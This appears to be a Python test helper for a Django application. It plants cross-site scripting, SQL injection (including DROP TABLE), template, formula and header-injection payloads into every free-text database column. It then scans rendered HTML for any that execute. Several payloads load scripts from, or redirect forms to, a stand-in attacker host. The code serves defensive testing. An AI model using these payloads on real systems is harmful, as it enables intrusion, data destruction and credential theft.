"""What an attacker would type, and the eyes that see whether any of it came alive in a page.

The corpus is our own wording of well-known kinds: breaking out of text, attributes, titles and drawings; addresses that
are scripts; templates; statements of the database; formulas; line ends for headers.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

from django.apps import apps
from django.db import connection, models
from django.db.backends.utils import CursorWrapper

PRODUCT = str(7_191 * 7_193)
SCRIPTS = (
    '"><img src=x onerror=planted(1)>',
    "'><svg onload=planted(2)>",
    "</textarea><script>planted(3)</script>",
    "</title></head><body onpageshow=planted(4)>",
    "</option></select><iframe srcdoc='<script>parent.planted(5)</script>'></iframe>",
    '" autofocus onfocus=planted(6) x="',
    "' style='position:fixed;background:url(//evil.example/a)' x='",
    "<a href=javascript:planted(7)>press</a>",
    "javascript:planted(8)//",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><button>Sign in again</button>",
    "--><script src=//evil.example/x.js></script><!--",
    "\u2028</script><script>planted(9)</script>",
    "{{7191*7193}}{% debug %}{% load static %}${7191*7193}#{7191*7193}",
    "&lt;img src=x onerror=planted(10)&gt;&#60;script&#62;planted(11)&#60;/script&#62;",
)
STATEMENTS = (
    "'; DROP TABLE access_user; --",
    "' OR '1'='1",
    "1) UNION SELECT password FROM access_user --",
    "\\' OR 1=1 --",
    "%' AND 1=CAST((SELECT version()) AS int) --",
    "$$; SELECT pg_sleep(5); $$",
    "name__password__startswith=p",
    "-id; DELETE FROM access_user",
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "|calc",
    " =1+1",
)
LINE_ENDS = (
    "a\r\nBcc: all@evil.example",
    "a\nSet-Cookie: x=1",
    "a\r\n\r\n<script>planted(12)</script>",
    "a\x0b\x0cb\u2028c",
)
# Text that the product itself wrote as a code or an address: not what somebody typed.
CODED = {
    "link",
    "sha256",
    "text_sha256",
    "media_type",
    "gss_code",
    "urn",
    "verb",
    "subject",
    "code",
    "kind",
    "role",
}
SHORTEST = 30
# A column that holds such a value holds codes of the product, which no person types.
_CODE = "^[a-z0-9_.-]+$"


def free_text_columns() -> list[tuple[str, str, int]]:
    """Every column of the product in which free words may stand: table, column, the most characters."""
    found = []
    for model in apps.get_models():
        if model.__module__.startswith("rightplace.") and not model._meta.proxy:
            for field in model._meta.concrete_fields:
                if (
                    isinstance(field, models.CharField | models.TextField)
                    and field.name not in CODED
                    and not field.choices
                ):
                    longest = field.max_length or 2_000
                    if longest >= SHORTEST and not isinstance(field, models.EmailField | models.URLField):
                        found.append((model._meta.db_table, field.column, longest))
    return [
        each
        for each in found
        if each[1] not in {"password", "state", "strategy", "suggested_strategy", "located_by"}
        # A session is signed: with other words in it nobody is signed in any more.
        and each[0] != "access_session"
    ]


def plant(corpus: tuple[str, ...]) -> tuple[int, dict[str, str]]:
    """Put the corpus into every free text of every table, as an import or an older release might have.

    Gives how many columns hold it now, and which refused it.

    A row takes the payload of its turn. Triggers are off, so also what is written once (the trail, contracts) holds it.
    """
    planted, refused = 0, {}
    with connection.cursor() as cursor:
        cursor.execute("SET LOCAL session_replication_role = replica")
        for table, column, longest in free_text_columns():
            cursor.execute(f'SELECT coalesce(bool_or("{column}" ~ %s), false) FROM "{table}"', [_CODE])
            if cursor.fetchone() == (True,):
                continue
            cursor.execute("SAVEPOINT planting")
            try:
                cursor.execute(
                    _STATEMENT.format(table=table, column=column), [list(corpus), len(corpus), longest]
                )
                planted += 1
                cursor.execute("RELEASE SAVEPOINT planting")
            except Exception as error:
                cursor.execute("ROLLBACK TO SAVEPOINT planting")
                refused[f"{table}.{column}"] = str(error).splitlines()[0]
        _plant_documents(cursor, corpus)
        cursor.execute("SET LOCAL session_replication_role = DEFAULT")
    return planted, refused


# A payload of its own for each row and column; a short mark follows, for where names must differ.
_STATEMENT = (
    'UPDATE "{table}" SET "{column}" = left((%s::text[])[1 + (hashtext(ctid::text || \'{column}\') & 1023) %% %s], %s - 12)'
    " || ' ' || substr(md5(ctid::text), 1, 8)"
)


def _plant_documents(cursor: CursorWrapper, corpus: tuple[str, ...]) -> None:
    """The same for every text within a JSON document: what a provider was shown, what a run reported."""
    for model in apps.get_models():
        for field in model._meta.concrete_fields if model.__module__.startswith("rightplace.") else ():
            if isinstance(field, models.JSONField):
                for row in model._base_manager.all()[:60]:
                    words = json.dumps(_with_words(getattr(row, field.attname), corpus, row.pk))
                    table, key = model._meta.db_table, model._meta.pk.column
                    cursor.execute(
                        f'UPDATE "{table}" SET "{field.column}" = %s::jsonb WHERE "{key}" = %s',
                        [words, row.pk],
                    )


def _with_words(value: object, corpus: tuple[str, ...], turn: int) -> object:
    """The same document with the corpus in every text that has words in it."""
    if isinstance(value, dict):
        return {
            key: _with_words(inner, corpus, turn + place) for place, (key, inner) in enumerate(value.items())
        }
    if isinstance(value, list):
        return [_with_words(inner, corpus, turn + place) for place, inner in enumerate(value)]
    if isinstance(value, str) and " " in value.strip():
        return f"{corpus[turn % len(corpus)]} {value}"
    return value


ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
OUTSIDE = ("javascript:", "vbscript:", "data:text", "//", "http://evil", "https://evil")


class _Eyes(HTMLParser):
    """Notes every element or attribute that could only be there because a text came alive."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = {name: value or "" for name, value in attrs}
        if tag in {"iframe", "object", "embed", "base", "style", "frame", "applet"} or "http-equiv" in known:
            self.seen.append(f"<{tag}>")
        if tag == "script" and not known.get("src", "").startswith("/static/"):
            self.seen.append(f"<script {known}>")
        for name, value in known.items():
            where = re.sub(r"[\x00-\x20]", "", value).lower()
            leads = (name in ADDRESSES or name.startswith("hx-")) and where.startswith(OUTSIDE)
            if leads or name.startswith("on") or name in {"style", "srcdoc"}:
                self.seen.append(f"<{tag} {name}={value!r}>")


def came_alive(body: str) -> list[str]:
    """What of a page's HTML is no longer text; and a template that was worked out."""
    eyes = _Eyes()
    eyes.feed(body)
    return eyes.seen + ([f"worked out: {PRODUCT}"] if PRODUCT in body else [])
